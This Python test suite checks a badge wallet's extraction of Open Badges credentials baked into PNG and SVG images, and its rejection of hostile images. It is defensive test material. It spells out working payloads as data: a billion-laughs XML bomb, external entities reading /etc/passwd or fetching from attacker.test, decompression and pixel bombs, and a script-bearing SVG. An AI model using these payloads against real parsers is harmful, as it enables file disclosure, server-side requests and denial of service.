"""Baked badges: extraction from PNG and SVG (OB 2.0 / OB 3.0 baking), and hostile images → typed errors, fast."""

from __future__ import annotations

import json
import time
import zlib
from pathlib import Path

import pytest

from tests.support.badges import OB30, VECTORS, chunk, ihdr, itxt, png, svg, tiny_idat
from wallet.errors import InputError, InputTooLarge, MalformedInput, UnsupportedFormat
from wallet.formats import read
from wallet.formats.baked import MAX_CHUNKS, PNG_SIGNATURE, extract_png_unverified, extract_svg_unverified

BAKERY = VECTORS / "ob-baking-mozilla-bakery"
BADGR = VECTORS / "ob-badgr-server-testfiles"
IMS = VECTORS / "ob2-imsglobal-validator-core"

ASSERTION = {"@context": "https://w3id.org/openbadges/v2", "type": "Assertion", "id": "https://issuer.test/a/1"}


# --- the vectors ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "fmt", "kind"),
    [
        ("simple-json.png", "vc-jsonld", "iTXt:openbadgecredential"),
        ("simple-json.svg", "vc-jsonld", "svg:credential"),
        ("simple-jwt.png", "vc-jwt", "iTXt:openbadgecredential"),
        ("simple-jwt.svg", "vc-jwt", "svg:credential"),
        ("simple-jwt_v1.png", "vc-jwt", "iTXt:openbadgecredential"),
        ("simple-jwt_v1.svg", "vc-jwt", "svg:credential"),
    ],
)
def test_1edtech_baked_ob3(name: str, fmt: str, kind: str) -> None:
    image = (OB30 / name).read_bytes()
    parsed = read(image, name)
    assert parsed.format == fmt
    assert parsed.original == image
    assert parsed.container == name.rsplit(".", 1)[1]
    assert parsed.extras["baked"] == kind
    if fmt == "vc-jwt":
        assert parsed.token is not None and parsed.payload == parsed.token.encode()
    else:
        assert json.loads(parsed.payload)["id"] == parsed.document["id"]


@pytest.mark.parametrize(
    "path", [IMS / "baked_heart.png", VECTORS / "1edtech-dc-public-validator" / "ob20" / "simple-badge.png"], ids=lambda p: p.name
)
def test_baked_ob2_png(path: Path) -> None:
    parsed = read(path.read_bytes())
    assert parsed.format == "openbadges-2" and parsed.extras["baked"] == "iTXt:openbadges"
    assert parsed.document["id"] == "https://example.org/beths-robotics-badge.json"


def test_badgr_baked_ob1_png() -> None:
    parsed = read((BADGR / "backpack" / "baked_image.png").read_bytes())
    assert parsed.format == "openbadges-2"
    assert parsed.extras["legacy"] is True and parsed.extras["hosted_url"] == "http://a.com/instance"


def test_bakery_baked_svg() -> None:
    parsed = read((BAKERY / "baked.svg").read_bytes())
    assert parsed.format == "openbadges-2"
    assert parsed.extras["hosted_url"] == "http://example.org"


@pytest.mark.parametrize(
    ("path", "error", "reason"),
    [
        (BAKERY / "bad-json.svg", MalformedInput, "syntax"),
        (BAKERY / "no-json.svg", MalformedInput, "empty-credential"),
        (BAKERY / "unbaked.svg", UnsupportedFormat, "no-credential-in-image"),
        (BAKERY / "unbaked.png", UnsupportedFormat, "no-credential-in-image"),
        (IMS / "public_domain_heart.unbaked.png", UnsupportedFormat, "no-credential-in-image"),
        (BADGR / "backpack" / "unbaked_image.png", UnsupportedFormat, "no-credential-in-image"),
        (BADGR / "issuer" / "guinea_pig_testing_badge.png", UnsupportedFormat, "no-credential-in-image"),  # XMP iTXt only
        (BADGR / "issuer" / "test_badgeclass.svg", UnsupportedFormat, "no-credential-in-image"),
        (BADGR / "issuer" / "hacked-svg-with-embedded-script-tags.svg", UnsupportedFormat, "no-credential-in-image"),
        (BADGR / "backpack" / "bad_image.png", UnsupportedFormat, "unknown-json"),  # JSON named .png: sniffed, not trusted
    ],
    ids=lambda v: v.name if isinstance(v, Path) else None,
)
def test_clean_typed_errors(path: Path, error: type[InputError], reason: str) -> None:
    with pytest.raises(error) as info:
        read(path.read_bytes(), path.name)
    assert info.value.fields["reason"] == reason


# --- PNG construction rules ------------------------------------------------------------------------------


def test_png_itxt_ob3_and_tEXt_legacy() -> None:
    body = json.dumps(ASSERTION).encode()
    assert extract_png_unverified(png(itxt("openbadges", body))).kind == "iTXt:openbadges"  # type: ignore[union-attr]
    legacy = png(chunk(b"tEXt", b"openbadges\x00" + body))
    parsed = read(legacy)
    assert parsed.format == "openbadges-2" and parsed.extras["baked"] == "tEXt:openbadges"


def test_png_url_content_is_hosted_assertion(tmp_path: Path) -> None:
    from wallet.formats.baked import read_png
    from wallet.verify.cache import LocalCache

    url = "https://issuer.test/a/1"
    image = png(itxt("openbadges", url.encode()))
    parsed = read(image)
    assert parsed.document == {"id": url} and parsed.extras["hosted_url"] == url
    cache = LocalCache(tmp_path)
    cache.put(url, json.dumps(ASSERTION).encode())
    assert read_png(image, None, cache=cache).document == ASSERTION


def test_png_jwt_content() -> None:
    from tests.support.badges import Ob2Issuer

    issuer = Ob2Issuer()
    token = issuer.sign(issuer.assertion())
    parsed = read(png(itxt("openbadges", token.encode())))
    assert parsed.format == "openbadges-2" and parsed.token == token and parsed.container == "png"


@pytest.mark.parametrize(
    ("image", "reason"),
    [
        (png(itxt("openbadgecredential", b'{"a": 1}', compressed=True)), "compressed-itxt"),
        (png(chunk(b"zTXt", b"openbadges\x00\x00" + zlib.compress(b"{}"))), "compressed-itxt"),
        (png(itxt("openbadgecredential", b"{}"), itxt("openbadgecredential", b"{}")), "duplicate-credential"),
        (png(itxt("openbadges", b"{}"), itxt("openbadgecredential", b"{}")), "duplicate-credential"),
        (png(itxt("openbadgecredential", b"   ")), "empty-credential"),
        (PNG_SIGNATURE + ihdr() + itxt("openbadges", b"{}"), "png-truncated"),  # no IEND
        (PNG_SIGNATURE + tiny_idat() + chunk(b"IEND", b""), "png-ihdr"),
        (PNG_SIGNATURE + ihdr() + chunk(b"iTXt", b"openbadges\x00\x00\x00\x00\x00{}", crc=1) + chunk(b"IEND", b""), "png-bad-crc"),
        (PNG_SIGNATURE + ihdr() + b"\xff\xff\xff\xffiTXt" + b"\x00" * 16, "png-chunk"),
        (png(chunk(b"i\x00XT", b"")), "png-chunk"),
        (png(itxt("openbadges", b"\xff\xfe{}")), "encoding"),
    ],
)
def test_hostile_png(image: bytes, reason: str) -> None:
    with pytest.raises(MalformedInput) as info:
        read(image)
    assert info.value.fields["reason"] == reason


def test_png_compressed_itxt_bomb_is_never_inflated() -> None:
    """A real 1 GB-when-inflated iTXt: refused from its header, in well under a second."""
    bomb = zlib.compress(b"{" + b" " * (64 * 1024 * 1024), 9)
    image = PNG_SIGNATURE + ihdr() + chunk(b"iTXt", b"openbadgecredential\x00\x01\x00\x00\x00" + bomb) + tiny_idat() + chunk(b"IEND", b"")
    start = time.perf_counter()
    with pytest.raises(MalformedInput) as info:
        read(image)
    assert info.value.fields["reason"] == "compressed-itxt"
    assert time.perf_counter() - start < 0.5


def test_png_pixel_bomb_is_refused_without_decoding() -> None:
    """A huge IDAT declared for 100,000 x 100,000 pixels: refused from IHDR, pixels never inflated."""
    idat = chunk(b"IDAT", zlib.compress(b"\x00" * (16 * 1024 * 1024), 9))
    image = PNG_SIGNATURE + ihdr(100_000, 100_000) + itxt("openbadges", b"{}") + idat + chunk(b"IEND", b"")
    start = time.perf_counter()
    with pytest.raises(MalformedInput) as info:
        read(image)
    assert info.value.fields["reason"] == "decompression-bomb"
    assert time.perf_counter() - start < 0.5


def test_png_ten_thousand_chunks() -> None:
    image = PNG_SIGNATURE + ihdr() + chunk(b"tEXt", b"c\x00x") * 10_000 + chunk(b"IEND", b"")
    start = time.perf_counter()
    with pytest.raises(MalformedInput) as info:
        read(image)
    assert info.value.fields["reason"] == "png-too-many-chunks" and info.value.fields["limit"] == MAX_CHUNKS
    assert time.perf_counter() - start < 0.5


def test_png_oversized_credential_chunk() -> None:
    with pytest.raises(InputTooLarge):
        read(png(itxt("openbadges", b"{" + b" " * (3 * 1024 * 1024) + b"}")))


# --- SVG ------------------------------------------------------------------------------------------------


def test_svg_ob3_jwt_in_verify_attribute() -> None:
    from tests.support.badges import Ob2Issuer

    issuer = Ob2Issuer()
    token = issuer.sign(issuer.assertion())
    parsed = read(svg(f'<openbadges:credential verify="{token}"></openbadges:credential>'))
    assert parsed.token == token and parsed.container == "svg"


def test_svg_ob2_assertion_with_hosted_url() -> None:
    body = json.dumps(ASSERTION)
    parsed = read(svg(f'<ob2:assertion verify="https://issuer.test/a/1"><![CDATA[{body}]]></ob2:assertion>'))
    assert parsed.format == "openbadges-2" and parsed.extras["hosted_url"] == "https://issuer.test/a/1"


def test_svg_script_is_ignored() -> None:
    body = json.dumps(ASSERTION)
    image = svg(f"<script>alert('x')</script><openbadges:credential><![CDATA[{body}]]></openbadges:credential>")
    assert read(image).document == ASSERTION


@pytest.mark.parametrize(
    ("image", "reason"),
    [
        # Billion laughs.
        (
            svg(
                "<openbadges:credential>&lol9;</openbadges:credential>",
                prolog='<!DOCTYPE svg [<!ENTITY lol "lol">'
                + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
                + "]>",
            ),
            "xml-forbidden",
        ),
        (svg("<openbadges:credential>&e;</openbadges:credential>", prolog='<!DOCTYPE svg [<!ENTITY e "x">]>'), "xml-forbidden"),
        # External entity (file and network): refused before anything is read or fetched.
        (
            svg("<openbadges:credential>&x;</openbadges:credential>", prolog='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
            "xml-forbidden",
        ),
        (
            svg(
                "<openbadges:credential>&x;</openbadges:credential>", prolog='<!DOCTYPE svg [<!ENTITY x SYSTEM "http://attacker.test/x">]>'
            ),
            "xml-forbidden",
        ),
        (svg("", prolog='<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.test/p.dtd"> %p;]>'), "xml-forbidden"),
        (svg("<openbadges:credential>&undefined;</openbadges:credential>"), "xml-syntax"),
        (b"<svg><unclosed></svg>", "xml-syntax"),
        (svg("<openbadges:credential>{}</openbadges:credential><openbadges:credential>{}</openbadges:credential>"), "duplicate-credential"),
        (svg("<openbadges:credential>  </openbadges:credential>"), "empty-credential"),
    ],
)
def test_hostile_svg(image: bytes, reason: str) -> None:
    start = time.perf_counter()
    with pytest.raises(MalformedInput) as info:
        read(image)
    assert info.value.fields["reason"] == reason
    assert time.perf_counter() - start < 0.5


def test_svg_external_dtd_reference_is_not_loaded() -> None:
    """The SVG 1.1 DOCTYPE of the 1EdTech badges is accepted and never fetched (conftest blocks sockets)."""
    body = json.dumps(ASSERTION)
    prolog = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    assert read(svg(f"<openbadges:credential><![CDATA[{body}]]></openbadges:credential>", prolog=prolog)).document == ASSERTION


def test_svg_not_svg_root() -> None:
    with pytest.raises(UnsupportedFormat):
        extract_svg_unverified(b'<?xml version="1.0"?><html><svg/></html>')


def test_svg_too_large() -> None:
    with pytest.raises(InputTooLarge):
        extract_svg_unverified(b"<svg>" + b" " * (5 * 1024 * 1024) + b"</svg>")
